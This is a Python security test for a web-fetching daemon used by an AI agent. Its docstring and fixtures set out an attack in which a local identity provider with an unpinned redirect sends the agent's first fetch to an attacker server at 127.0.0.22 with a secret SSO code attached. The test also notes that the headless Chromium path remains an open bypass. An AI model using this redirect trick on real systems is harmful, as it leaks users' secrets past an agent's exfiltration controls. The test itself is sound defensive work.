"""An attacker's-eye review of when a session counts as having read private content (exitflow.py): the moment a
private answer arrives, not when the call's result is handed to the agent.

The session was tainted when the call's result was observed, after the call. Inside the call that made the private
read, the exit rule still saw a clean session, so a redirect the private answer asked for went anywhere: a local
service that sends the browser on with a secret attached (an identity provider on the developer's machine whose
``redirect_uri`` is not pinned, a tool's login callback: ``/sso?next=<url>`` answers ``302 <url>?code=<secret>``)
delivered the secret to the attacker's host in the agent's very first fetch, before any taint existed.

Fixed for the HTTP source (it tells the exit rule of every answer as it arrives: ``exitflow.note_read``); open
(strict xfail) for headless Chromium. Real daemon over its real HTTP API, the real sources, a real local service and
a real attacker server."""

from __future__ import annotations

from pathlib import Path

import pytest
from aiohttp import web
from trawl.server.runner import RunningDaemon

from tests.integration.test_daemon_helpers import daemon_settings
from tests.security.conftest import site
from tests.security.test_exits import page
from tests.security.test_private_hosts import v1_fetch

pytestmark = [pytest.mark.timeout(120)]

SSO_CODE = "Kp4Wz8Rq2Nx6Lt9Vb3Hm7"  # what the local service attaches to the URL it sends the client on to
ATTACKER_HOST = "127.0.0.22"


HEADLESS_OPEN = pytest.mark.xfail(strict=True, reason=(
    "open: headless Chromium follows the private answer's redirect itself and the daemon's proxy decides the hop as "
    "a request of the page's own making, in a session still clean; counting the call's private reads there would "
    "also hold a local front end's requests to its local API in the first call (SECURITY.md, known limits)"))


@pytest.mark.parametrize("source", ["http", pytest.param("playwright", marks=HEADLESS_OPEN)])
async def test_a_redirect_a_private_answer_asks_for_is_decided_as_after_a_private_read(tmp_path: Path, chromium: str,
                                                                                       source: str) -> None:
    attacker_hits: list[str] = []
    service_hits: list[str] = []

    async def collect(request: web.Request) -> web.Response:
        attacker_hits.append(str(request.rel_url))
        return web.Response(text=page("Signed in", "<p>" + "You are signed in now, welcome back to the site. " * 5
                                      + "</p>"), content_type="text/html")

    async def service(request: web.Request) -> web.Response:  # a local identity provider, redirect_uri unpinned
        service_hits.append(str(request.rel_url))
        if request.path == "/sso":
            raise web.HTTPFound(f"{request.query['next']}?code={SSO_CODE}")
        if request.path == "/home":  # its own redirect inside its own origin still works
            raise web.HTTPFound("/welcome")
        return web.Response(text=page("Welcome", "<p>" + "The developer console lists your local projects. " * 5
                                      + "</p>"), content_type="text/html")

    settings = daemon_settings(tmp_path, allow_private_hosts=True, chromium_path=chromium, render_timeout_s=30.0)
    async with (site(collect, ATTACKER_HOST) as a_port, site(service) as s_port,
                RunningDaemon(settings, warm=False) as d):
        # the agent's first call: nothing private was read before it
        out = await v1_fetch(d, f"http://127.0.0.1:{s_port}/sso?next=http://{ATTACKER_HOST}:{a_port}/cb",
                             query="", source=source)
        # a redirect inside the private answer's own origin is followed as before
        own = await v1_fetch(d, f"http://127.0.0.1:{s_port}/home", query="what is listed", source=source)
    assert service_hits[0].startswith("/sso")  # the attack was mounted
    assert out["ok"] is False and out["error"]["code"] == "exit_held", out
    assert attacker_hits == [], "the private answer's redirect carried its secret out"
    assert own["ok"] is True and own["final_url"].endswith("/welcome"), own
